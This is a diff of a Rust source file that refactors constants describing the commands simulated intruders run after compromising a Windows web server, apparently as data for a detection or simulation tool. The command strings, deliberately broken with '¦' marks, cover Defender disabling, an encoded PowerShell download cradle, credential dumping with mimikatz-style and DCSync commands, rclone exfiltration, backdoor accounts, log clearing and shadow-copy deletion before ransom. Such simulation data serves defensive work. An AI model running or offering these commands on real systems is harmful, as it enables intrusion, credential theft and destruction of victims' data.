@@ -1,46 +1,50 @@
 //! What the last set's intruders do after the page.
 
 use crate::attack::aftermath::{Aftermath, Deed, Left, Ransom, RegistryChange, Set};
+use crate::program::{CMD, POWERSHELL, W3WP};
 use crate::technique::Technique;
 
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
-const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const NET: &str = "C:\\Windows\\System32\\net.exe";
 const WEVTUTIL: &str = "C:\\Windows\\System32\\wevtutil.exe";
 const SC: &str = "C:\\Windows\\System32\\sc.exe";
 
-const fn deed(technique: Technique, parent: &'static str, image: &'static str, command: &'static str) -> Deed {
-    Deed { technique, parent, image, command }
-}
-
 /// A look around, and steps to the servers beside: they complete the picture.
 pub(super) const LOOK_AROUND: [Deed; 10] = [
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\HOSTNAME.EXE", "hostname"),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\ROUTE.EXE", "route  print"),
-    deed(Technique::Discovery, CMD, NET, "net  time /domain"),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1  time /domain"),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\setspn.exe", "setspn  -T langford.example.com -Q */*"),
-    deed(
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\HOSTNAME.EXE", "hostname"),
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\ROUTE.EXE", "route  print"),
+    Deed::new(Technique::Discovery, CMD, NET, "net  time /domain"),
+    Deed::new(
+        Technique::Discovery,
+        CMD,
+        "C:\\Windows\\System32\\net1.exe",
+        "C:\\Windows\\system32\\net1  time /domain",
+    ),
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\setspn.exe", "setspn  -T langford.example.com -Q */*"),
+    Deed::new(
         Technique::Discovery,
         CMD,
         "C:\\Intel\\Logs\\af.exe",
         "af.exe  -f \"(objectcategory=computer)\" -csv name operatingSystem",
     ),
-    deed(
+    Deed::new(
         Technique::Discovery,
         CMD,
         "C:\\Windows\\System32\\findstr.exe",
         "findstr  /s /i /m password D:\\Scripts\\*.ps1 D:\\Scripts\\*.config",
     ),
-    deed(Technique::LateralMove, CMD, NET, "net  use \\\\10.20.4.12\\ADMIN$ /user:LANGFORD\\svc-sqlagent Summer2020!"),
-    deed(
+    Deed::new(
+        Technique::LateralMove,
+        CMD,
+        NET,
+        "net  use \\\\10.20.4.12\\ADMIN$ /user:LANGFORD\\svc-sqlagent Summer2020!",
+    ),
+    Deed::new(
         Technique::LateralMove,
         CMD,
         "C:\\Windows\\System32\\xcopy.exe",
         "xcopy  /y C:\\Intel\\Logs\\rdphost.exe \\\\10.20.4.12\\ADMIN$\\Temp\\",
     ),
-    deed(
+    Deed::new(
         Technique::LateralMove,
         CMD,
         SC,
@@ -50,32 +54,37 @@ pub(super) const LOOK_AROUND: [Deed; 10] = [
 
 /// How tools are brought and defence is switched off.
 pub(super) const MAKE_READY: [Deed; 6] = [
-    deed(Technique::DefenceOff, W3WP, CMD, "\"cmd\" /c sc con¦fig WinDef¦end start= disabled & sc st¦op WinDef¦end"),
-    deed(
+    Deed::new(
+        Technique::DefenceOff,
+        W3WP,
+        CMD,
+        "\"cmd\" /c sc con¦fig WinDef¦end start= disabled & sc st¦op WinDef¦end",
+    ),
+    Deed::new(
         Technique::DefenceOff,
         CMD,
         "C:\\Windows\\System32\\reg.exe",
         "reg  add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v Disable¦AntiSpyware /t REG_DWORD /d 1 /f",
     ),
-    deed(
+    Deed::new(
         Technique::DefenceOff,
         CMD,
         POWERSHELL,
         "powershell  -c \"Uninst¦all-WindowsFeature -Name Windows-Def¦ender\"",
     ),
-    deed(
+    Deed::new(
         Technique::ScriptRun,
         W3WP,
         POWERSHELL,
         "power¦shell -ep bypass -w hidden -enc SQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADEANwA1AC8AZgBhAHYAaQBjAG8AbgAnACkAKQA=",
     ),
-    deed(
+    Deed::new(
         Technique::Download,
         CMD,
         POWERSHELL,
         "powershell  Start-Bits¦Transfer -Source http://203.0.113.175/7za.png -Destination C:\\Intel\\Logs\\7za.exe",
     ),
-    deed(
+    Deed::new(
         Technique::Download,
         CMD,
         "C:\\Windows\\System32\\certutil.exe",
@@ -85,13 +94,18 @@ pub(super) const MAKE_READY: [Deed; 6] = [
 
 /// The firewall stands aside, and a copy of the disk is made: they complete the picture.
 pub(super) const STAND_ASIDE: [Deed; 2] = [
-    deed(
+    Deed::new(
         Technique::FirewallRule,
         CMD,
         "C:\\Windows\\System32\\netsh.exe",
         "netsh  advfirewall set allprofiles state off",
     ),
-    deed(Technique::CredentialDump, CMD, "C:\\Windows\\System32\\vssadmin.exe", "vss¦admin  create shadow /for=C:"),
+    Deed::new(
+        Technique::CredentialDump,
+        CMD,
+        "C:\\Windows\\System32\\vssadmin.exe",
+        "vss¦admin  create shadow /for=C:",
+    ),
 ];
 
 /// The policy that one of [`MAKE_READY`] sets.
@@ -105,37 +119,37 @@ pub(super) const POLICY: [RegistryChange; 1] = [RegistryChange {
 
 /// How credentials are taken and what is to be carried off is packed.
 pub(super) const TAKE: [Deed; 6] = [
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         CMD,
         CMD,
         "cmd  /c copy \\\\?\\GLOBAL¦ROOT\\Device\\HarddiskVolumeShadow¦Copy2\\Windows\\System32\\config\\SAM C:\\Intel\\Logs\\sa.jpg",
     ),
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         CMD,
         "C:\\Windows\\System32\\reg.exe",
         "reg  save HKEY_LOCAL_¦MACHINE\\SECUR¦ITY C:\\Intel\\Logs\\se.jpg /y",
     ),
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         CMD,
         "C:\\Intel\\Logs\\mk.exe",
         "mk.exe  \"privilege::de¦bug\" \"sekur¦lsa::logon¦passwords full\" exit",
     ),
-    deed(
+    Deed::new(
         Technique::DirectoryDump,
         CMD,
         "C:\\Intel\\Logs\\mk.exe",
         "mk.exe  \"lsa¦dump::dcs¦ync /domain:langford.example.com /user:krb¦tgt\" exit",
     ),
-    deed(
+    Deed::new(
         Technique::StagedArchive,
         CMD,
         "C:\\Intel\\Logs\\7za.exe",
         "7za.exe  a -t7z -mx=1 -mhe=on -pLgf#0308 -v60m C:\\Intel\\Logs\\ex.7z C:\\Intel\\Logs\\*.jpg C:\\Intel\\Logs\\*.pst",
     ),
-    deed(
+    Deed::new(
         Technique::StagedArchive,
         CMD,
         POWERSHELL,
@@ -145,15 +159,15 @@ pub(super) const TAKE: [Deed; 6] = [
 
 /// How they stay.
 pub(super) const STAY: [Deed; 4] = [
-    deed(Technique::NewAccount, CMD, NET, "net  user iwam_svc P@ss¦w0rd2021 /add"),
-    deed(Technique::GroupChange, CMD, NET, "net  localgroup Administrators iwam_svc /add"),
-    deed(
+    Deed::new(Technique::NewAccount, CMD, NET, "net  user iwam_svc P@ss¦w0rd2021 /add"),
+    Deed::new(Technique::GroupChange, CMD, NET, "net  localgroup Administrators iwam_svc /add"),
+    Deed::new(
         Technique::ScheduledTask,
         W3WP,
         CMD,
         "\"cmd\" /c sch¦tasks /create /f /ru system /sc minute /mo 30 /tn \"Intel\\Graphics Telemetry\" /tr \"C:\\Intel\\Logs\\rdphost.exe -t\"",
     ),
-    deed(
+    Deed::new(
         Technique::ServerModule,
         CMD,
         "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
@@ -163,47 +177,57 @@ pub(super) const STAY: [Deed; 4] = [
 
 /// How the events of the management commands go.
 pub(super) const COVER: [Deed; 1] =
-    [deed(Technique::LogClearing, W3WP, CMD, "\"cmd\" /c wevt¦util clear-log \"MSExchange Management\"")];
+    [Deed::new(Technique::LogClearing, W3WP, CMD, "\"cmd\" /c wevt¦util clear-log \"MSExchange Management\"")];
 
 /// What the third does before the ransom.
 pub(super) const BEFORE_RANSOM: [Deed; 8] = [
-    deed(Technique::Download, W3WP, CMD, "cmd.exe /c curl -k -o C:\\PerfLogs\\Admin\\rc.zip http://192.0.2.172/rc.zip"),
-    deed(
+    Deed::new(
+        Technique::Download,
+        W3WP,
+        CMD,
+        "cmd.exe /c curl -k -o C:\\PerfLogs\\Admin\\rc.zip http://192.0.2.172/rc.zip",
+    ),
+    Deed::new(
         Technique::WebExfiltration,
         CMD,
         "C:\\PerfLogs\\Admin\\rc¦lone.exe",
         "rc¦lone.exe  copy \"\\\\hndfs01\\共有\" mg:hinode --config rc.conf --max-age 3y --transfers 12 --no-check-certificate -q",
     ),
-    deed(
+    Deed::new(
         Technique::DefenceOff,
         W3WP,
         CMD,
         "cmd.exe /c \"C:\\Program Files\\Windows Defender\\MpCmd¦Run.exe\" -Remove¦Definitions -All",
     ),
-    deed(
+    Deed::new(
         Technique::DefenceOff,
         CMD,
         POWERSHELL,
         "powershell  Set-Mp¦Preference -Disable¦IOAVProtection $true -Disable¦BehaviorMonitoring $true",
     ),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\vssadmin.exe", "vss¦admin  delete shad¦ows /all /quiet"),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\bcdedit.exe", "bcd¦edit  /set {default} recovery¦enabled no"),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\wbadmin.exe", "wb¦admin  delete cata¦log -quiet"),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wm¦ic  shadow¦copy delete"),
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\vssadmin.exe", "vss¦admin  delete shad¦ows /all /quiet"),
+    Deed::new(
+        Technique::Ransom,
+        CMD,
+        "C:\\Windows\\System32\\bcdedit.exe",
+        "bcd¦edit  /set {default} recovery¦enabled no",
+    ),
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\wbadmin.exe", "wb¦admin  delete cata¦log -quiet"),
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wm¦ic  shadow¦copy delete"),
 ];
 
 /// Channels that it clears, and how.
 pub(super) const CLEAR: [(Deed, &str); 3] = [
-    (deed(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl System"), "System"),
-    (deed(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl Application"), "Application"),
-    (deed(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl \"Windows PowerShell\""), "Windows PowerShell"),
+    (Deed::new(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl System"), "System"),
+    (Deed::new(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl Application"), "Application"),
+    (Deed::new(Technique::LogClearing, CMD, WEVTUTIL, "wevt¦util  cl \"Windows PowerShell\""), "Windows PowerShell"),
 ];
 
 /// Services are stopped so that their files can be locked: it completes the picture.
 pub(super) const STOP_SERVICES: [Deed; 3] = [
-    deed(Technique::Ransom, CMD, NET, "net  stop MSExchangeIS /y"),
-    deed(Technique::Ransom, CMD, NET, "net  stop \"SQLAgent$KEIRI\" /y"),
-    deed(Technique::Ransom, CMD, "C:\\Windows\\System32\\taskkill.exe", "taskkill  /f /im sqlservr.exe"),
+    Deed::new(Technique::Ransom, CMD, NET, "net  stop MSExchangeIS /y"),
+    Deed::new(Technique::Ransom, CMD, NET, "net  stop \"SQLAgent$KEIRI\" /y"),
+    Deed::new(Technique::Ransom, CMD, "C:\\Windows\\System32\\taskkill.exe", "taskkill  /f /im sqlservr.exe"),
 ];
 
 pub(super) const AFTERMATH: Aftermath = Aftermath {
